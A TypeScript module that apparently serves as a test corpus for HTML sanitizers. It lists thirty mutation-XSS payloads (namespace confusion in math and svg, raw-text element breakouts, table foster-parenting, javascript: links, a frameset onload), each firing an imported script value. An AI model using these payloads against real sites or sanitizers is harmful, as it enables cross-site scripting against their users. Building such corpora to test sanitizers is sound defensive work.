import { FAR, RUN, type Family } from './payload';

const IMAGE = `<img src="x:" onerror="${RUN}">`;
const AS_VALUE = `&lt;img src=x: onerror=${RUN}&gt;`;

/** Markup that changes its meaning when it is parsed a second time (mutation XSS). */
export const MUTATION: Family = {
  'a style in a math': `<math><style><a title="</style>${IMAGE}"></a></style></math>`,
  'a style in a drawing': `<svg><style><a id="</style>${IMAGE}"></a></style></svg>`,
  'a form in a form in a table': `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  'a glyph under a table': `<math><mtext><table><mglyph><style><!--</style>${IMAGE.replaceAll('"', '')}-->`,
  'a mark between text and math': `<math><mtext><table><mglyph><style><math>${IMAGE}</math></style></mglyph></table></mtext></math>`,
  'a malignmark': `<math><mi><table><malignmark><style><a title="</style>${IMAGE}"></style></malignmark></table></mi></math>`,
  'a title that ends in a value': `<title><p title="</title>${IMAGE}"></p>`,
  'a text area that ends in a value': `<textarea><p title="</textarea>${IMAGE}"></p>`,
  'a noscript that ends in a value': `<noscript><p title="</noscript>${IMAGE}"></p></noscript>`,
  'a noembed that ends in a value': `<noembed><p title="</noembed>${IMAGE}"></p></noembed>`,
  'a noframes that ends in a value': `<noframes><p title="</noframes>${IMAGE}"></p></noframes>`,
  'an iframe that ends in a value': `<iframe><p title="</iframe>${IMAGE}"></p></iframe>`,
  'an xmp that ends in a value': `<xmp><p title="</xmp>${IMAGE}"></p></xmp>`,
  'a listing with a line first': `<listing>\n\n${IMAGE}</listing>`,
  'a pre with a line first': `<pre>\n\n${IMAGE}</pre>`,
  'a plain text that never ends': `<p>Before</p><plaintext>${IMAGE}</plaintext>`,
  'a plain text in a drawing': `<svg><desc><plaintext><p title="</desc></svg>${IMAGE}"></p>`,
  'a select that closes a drawing': `<select><svg><style><p title="</style></svg></select>${IMAGE}"></p>`,
  'an option with markup': `<select><option>${IMAGE}</option></select>`,
  'a table that throws content out': `<table><tr>${IMAGE}<td><p>Cell</p></td></tr></table>`,
  'a caption in a caption': `<table><caption><svg><caption>${IMAGE}</caption></svg></caption></table>`,
  'a paragraph in a heading’s value': `<h2 title="<p>${AS_VALUE}">Words</h2>`,
  'a back-tick for a quote': `<img alt="\`\` onerror=${RUN} " src="x:">`,
  'a value of escaped markup': `<p title="${AS_VALUE}">${AS_VALUE}</p>`,
  'escaped twice': `<p>&amp;lt;img src=x: onerror=${RUN}&amp;gt;</p>`,
  'links within links': `<a href="${FAR}"><table><a href="javascript:${RUN}">In</a></table></a>`,
  'formatting that is adopted': `<b><a href="javascript:${RUN}"><p>In</b></a>${IMAGE}</p>`,
  'a nobr in a nobr': `<nobr><svg><nobr>${IMAGE}</nobr></svg></nobr>`,
  'an end of a paragraph only': `</p></br>${IMAGE}</body></html>${IMAGE}`,
  'a frameset': `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
};
